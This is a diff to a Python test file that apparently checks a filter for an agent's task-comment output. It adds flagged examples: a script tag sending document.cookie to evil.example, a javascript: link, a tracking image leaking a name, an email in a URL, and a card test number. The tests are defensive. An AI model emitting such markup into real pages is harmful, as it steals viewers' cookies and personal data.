@@ -132,6 +132,33 @@ BAD = [
     # a person named where a person is meant, whom no record holds
     ("provenance", "T-1042 waits on the glossary. Next step: ask Markus Weber in legal for a date.", {}),
     ("provenance", "The glossary was approved by Jana Novak; T-1042 can go to the agency.", {}),
+    # active content a viewer of the record would run or fetch: never posted
+    (
+        "markup",
+        "T-1042 waits on legal. <script>fetch('https://evil.example/c?'+document.cookie)</script> Ask legal.",
+        dict(output_mode="task_comment"),
+    ),
+    (
+        "markup",
+        "T-1042 waits on legal. See [the glossary](javascript:alert(1)). Ask legal.",
+        dict(output_mode="task_comment"),
+    ),
+    (
+        "markup",
+        "T-1042 waits on legal. ![s](https://evil.example/p.png?d=lena) Next step: ask legal for a date.",
+        dict(output_mode="task_comment"),
+    ),
+    # personal data in a link's address, and the card issuers' test number
+    (
+        "privacy",
+        "T-1042 waits on legal; details at https://example.org/x?who=jonas%40northwind.example today.",
+        dict(output_mode="task_comment", sources=("tasks", "crm")),
+    ),
+    (
+        "privacy",
+        "T-1042: the agency will be paid with card 4111 1111 1111 1111 after legal.",
+        dict(output_mode="task_comment"),
+    ),
     # the look-alike id is still read as the id: its wrong status is found
     ("facts", "\u0399NV-2044 is paid, so the licences are settled.", dict(sources=FIN)),
 ]
@@ -174,6 +201,10 @@ GOOD = [
     ("INV-2031 amount is twelve thousand four hundred euros; chase it first.", dict(sources=FIN)),
     ("T-1042 has two comments, both about the glossary; the last 1 comment is Priya's.", {}),
     ("T-1042 waits on the glossary. Next step: ask Priya Shah, then contact Legal Review on Monday.", {}),
+    (
+        "T-1042 waits on **legal**; the glossary: [the wiki](https://wiki.example/glossary?v=2). Ask legal.",
+        {},
+    ),
     # how some text is written: a non-breaking hyphen, a soft hyphen, a joiner in Devanagari
     (
         "T\u20111042 waits on the glossary in legal re\u00adview (\u0915\u094d\u200d\u0937). "
@@ -197,7 +228,7 @@ def _run(workspace, text, spec):
 def test_adversarial_misbehaving_outputs_are_flagged(workspace, key, text, spec):
     run = _run(workspace, text, spec)
     assert key in flagged(workspace, run), (text, run.status, run.error)
-    if spec.get("output_mode") == "task_comment" and key in ("answer", "privacy"):
+    if spec.get("output_mode") == "task_comment" and key in ("answer", "privacy", "markup"):
         assert run.error is not None and run.error.kind == "output_rejected"
         assert not [c for c in App(str(workspace.root)).records.comments("T-1042") if c.run_id == run.id]
 
